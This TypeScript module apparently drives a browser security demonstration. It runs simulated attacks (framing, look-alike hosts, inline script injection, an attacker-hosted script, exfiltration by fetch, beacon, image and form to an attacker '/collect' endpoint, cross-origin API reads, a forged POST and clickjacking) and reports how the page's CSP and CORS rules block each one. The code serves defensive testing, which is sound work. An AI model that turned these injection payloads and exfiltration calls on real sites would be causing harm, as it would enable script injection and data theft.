import type { Activity, Watch } from './activity.ts'
import { brokenRule, first, messagesFrom, type Signal, tryFrame, tryIt, tryMarkup } from './signals.ts'

export interface Places {
  readonly shell: string
  readonly catalog: string
  readonly api: string
  readonly attacker: string
  readonly framePatterns: readonly string[]
}

/** One thing that an attack tried, and what became of it. */
export interface Try {
  readonly what: string
  /** `silent`: neither the browser nor the API said anything. */
  readonly outcome: 'blocked' | 'through' | 'silent'
  /** The words of the policy, or the API's reason. */
  readonly rule?: string
  readonly why: string
}

export interface Attack {
  readonly id: string
  readonly title: string
  /** What the attacker is after. */
  readonly aim: string
  run(places: Places, watch: Watch): Promise<readonly Try[]>
}

export const attacks: readonly Attack[] = [
  {
    id: 'rogue-frame',
    title: 'Rogue frame',
    aim: 'Get the shell to show the attacker’s page as if it were a team’s.',
    run: async ({ attacker }) => [judge(attacker, await tryFrame(`${attacker}/`))],
  },
  {
    id: 'look-alike',
    title: 'Look-alike host',
    aim: 'The same, from hosts whose names read like a team’s.',
    run: ({ attacker, catalog, framePatterns }) =>
      inTurn(lookAlikes(attacker, catalog, framePatterns), async (url) =>
        judge(new URL(url).host, await tryFrame(url)),
      ),
  },
  {
    id: 'inline-injection',
    title: 'Inline injection',
    aim: 'Slip a script, or an attribute that holds one, into the page’s HTML.',
    run: () =>
      inTurn(
        [
          `<script>parent.postMessage({ ran: 'a script' }, '*')</script>`,
          `<details open ontoggle="parent.postMessage({ ran: 'a handler' }, '*')">`,
        ],
        async (markup) => judge(markup.replace(/parent.*'\*'\)/, '…'), await tryMarkup('inline', markup)),
      ),
  },
  {
    id: 'foreign-script',
    title: 'Script from the attacker',
    aim: 'Have the page load a script from the attacker’s server.',
    run: async ({ attacker }) => {
      const markup = `<script src="${attacker}/steal.js"></script>`
      return [judge(markup, await tryMarkup(attacker, markup))]
    },
  },
  {
    id: 'exfiltration',
    title: 'Exfiltrating fetch',
    aim: 'A script that did get in sends what it found to the attacker.',
    run: ({ attacker }) =>
      inTurn(['fetch', 'beacon', 'image'] as const, async (way) => {
        const url = `${attacker}/collect?by=${way}`
        return judge(`${way} to ${attacker}`, await tryIt(attacker, (through) => send(way, url, through)))
      }),
  },
  {
    id: 'cross-origin-read',
    title: 'Cross-origin read',
    aim: 'A page of the attacker’s own calls the API with your cookie.',
    run: async ({ attacker }, watch) => {
      const refusals: Refusal[] = []
      const stop = watch((told) => {
        if (told.kind === 'refused' && told.from === attacker) refusals.push(told)
      })
      const tried = await visit(attacker, 'read', (data) => readResult(data))
      const results = await inTurn(tried, async ({ method, path, got }) => {
        const isIt = (told: Refusal): boolean =>
          told.path === path && (told.method === method || told.method === 'OPTIONS')
        const refusal =
          refusals.find(isIt) ??
          (await first(watch, (told) => (told.kind === 'refused' && isIt(told) ? told : undefined)))
        const what = `${method} ${path} from ${attacker}`
        return got ? wentThrough(what) : refusal ? refused(what, refusal) : silent(what)
      })
      stop()
      return results.length > 0 ? results : [silent(`a window of ${attacker}`)]
    },
  },
  {
    id: 'forged-order',
    title: 'Forged order',
    aim: 'The same, with a request so plain that no preflight comes first.',
    run: async ({ attacker }, watch) => {
      const what = `POST /orders from ${attacker}`
      const answer = first(watch, (told) =>
        told.kind !== 'blocked' && told.from === attacker && told.path === '/orders' ? told : undefined,
      )
      openWindow(attacker, 'forge')
      const told = await answer
      if (told === undefined) return [silent(what)]
      return [told.kind === 'refused' ? refused(what, told) : wentThrough(what)]
    },
  },
  {
    id: 'form',
    title: 'Form to the attacker',
    aim: 'A form slipped into the page posts what you type to the attacker.',
    run: async ({ attacker }) => {
      const signal = await tryIt(attacker, (through) => {
        first(messagesFrom(attacker), (data) => (has(data, 'loaded') ? true : undefined)).then(
          (loaded) => loaded && through(),
        )
        sendForm(`${attacker}/collect?by=form`)
      })
      return [judge(`<form action="${attacker}/collect">`, signal)]
    },
  },
  {
    id: 'framing',
    title: 'Framing by the attacker',
    aim: 'Lay your pages, unseen, under the attacker’s buttons.',
    run: ({ attacker, shell, catalog }, watch) => {
      const results = [shell, catalog].map(async (origin) => {
        const what = `${origin} in a frame of ${attacker}`
        const told = await first(watch, (news) =>
          news.kind === 'blocked' && news.directive === 'frame-ancestors' && originOf(news.page) === origin
            ? news
            : undefined,
        )
        return told ? blocked(what, 'frame-ancestors', WHY['frame-ancestors'] ?? '') : silent(what)
      })
      openWindow(attacker, 'frame')
      return Promise.all(results)
    },
  },
]

type Refusal = Extract<Activity, { kind: 'refused' }>

const WHY: Readonly<Record<string, string>> = {
  'frame-src':
    'The shell frames hosts below the teams’ domain, compared label by label. Containing the name is not being below it.',
  'script-src-elem':
    'The tag lacks this response’s nonce, and injected markup cannot guess it. Where a script comes from does not matter.',
  'script-src-attr': 'An attribute cannot carry a nonce, so no handler written into markup runs.',
  'connect-src': 'The page may call its own server and the API. There is nowhere else to send anything to.',
  'img-src': 'Even the address of a picture can carry secrets, so pictures come from this server only.',
  'form-action': 'No form on this page may be sent anywhere: the shell has none.',
  'frame-ancestors': 'The framed page itself says who may frame it, and its browser reported this try.',
  'origin-refused':
    'The request arrived, but the answer carries no CORS header, so the browser keeps it from the page.',
  'preflight-origin-refused': 'The browser asked first. The API answered 403, so the request itself was never sent.',
  'cross-origin-refused':
    'CORS cannot stop this one: it is sent without asking. The guard saw that it came from another site.',
}

function judge(what: string, signal: Signal): Try {
  if (signal === 'through') return wentThrough(what)
  if (signal === 'silent') return silent(what)
  return blocked(
    what,
    brokenRule(signal),
    WHY[signal.effectiveDirective] ?? `The browser named ${signal.effectiveDirective}.`,
  )
}

function refused(what: string, { reason, message, session }: Refusal): Try {
  const cookie = session ? ' Your cookie came along.' : ''
  return blocked(what, reason, (WHY[reason] ?? message) + cookie)
}

function blocked(what: string, rule: string, why: string): Try {
  return { what, outcome: 'blocked', rule, why }
}

function wentThrough(what: string): Try {
  return { what, outcome: 'through', why: 'Nothing stopped it.' }
}

function silent(what: string): Try {
  return { what, outcome: 'silent', why: 'No report came. Was the attacker’s window blocked, or is a server down?' }
}

/** Hosts that resemble a team's: the name as a prefix, one label run into the next, and the bare domain. */
function lookAlikes(attacker: string, catalog: string, patterns: readonly string[]): readonly string[] {
  const bare = patterns.map((pattern) => pattern.replace('*.', ''))[0] ?? catalog
  const domain = new URL(bare).hostname
  const evil = new URL(attacker)
  return [
    `${evil.protocol}//ui.catalog.${domain}.${evil.host}/`,
    catalog.replace('.teams.', '-teams.'),
    bare,
    // The right host on a port that is not the team's.
    `${evil.protocol}//ui.catalog.${domain}${evil.port ? `:${evil.port}` : ':8443'}/`,
  ]
}

function send(way: 'fetch' | 'beacon' | 'image', url: string, through: () => void): void {
  const secret = `title=${document.title}`
  if (way === 'fetch') fetch(url, { method: 'POST', body: secret, mode: 'no-cors' }).then(through, () => {})
  // Its return value says only that the browser took it, so nothing but the violation counts.
  else if (way === 'beacon') navigator.sendBeacon(url, secret)
  else Object.assign(new Image(), { onload: through, src: `${url}&${secret}` })
}

function sendForm(action: string): void {
  const form = document.createElement('form')
  form.method = 'post'
  form.action = action
  // Without a policy this would leave the page, so it goes to a window of its own.
  form.target = WINDOW
  document.body.append(form)
  form.submit()
  form.remove()
}

const WINDOW = 'attacker'

/** Shows a page of the attacker in a window of its own. The same window every time, so one permission is enough. */
export function openWindow(attacker: string, page: string): void {
  window.open(`${attacker}/${page}`, WINDOW, 'popup,width=560,height=720')
}

/** What a page of the attacker says of its tries, until it says that it is done. */
async function visit<Found>(
  attacker: string,
  page: string,
  read: (data: unknown) => Found | undefined,
): Promise<readonly Found[]> {
  const found: Found[] = []
  const done = first(messagesFrom(attacker), (data) => {
    const result = read(data)
    if (result !== undefined) found.push(result)
    return has(data, 'done') && data.done === page ? true : undefined
  })
  openWindow(attacker, page)
  await done
  return found
}

interface ReadResult {
  readonly method: string
  readonly path: string
  readonly got: boolean
}

function readResult(data: unknown): ReadResult | undefined {
  if (!has(data, 'method') || !has(data, 'path') || !has(data, 'got')) return undefined
  const { method, path, got } = data
  return typeof method === 'string' && typeof path === 'string' ? { method, path, got: got === true } : undefined
}

function has<Name extends string>(data: unknown, name: Name): data is Record<Name, unknown> {
  return typeof data === 'object' && data !== null && name in data
}

function originOf(url: string): string | undefined {
  return URL.canParse(url) ? new URL(url).origin : undefined
}

/** One after the other, so that a violation can only belong to the try that is under way. */
async function inTurn<Item, Result>(
  items: readonly Item[],
  act: (item: Item) => Promise<Result>,
): Promise<readonly Result[]> {
  const results: Result[] = []
  for (const item of items) results.push(await act(item))
  return results
}
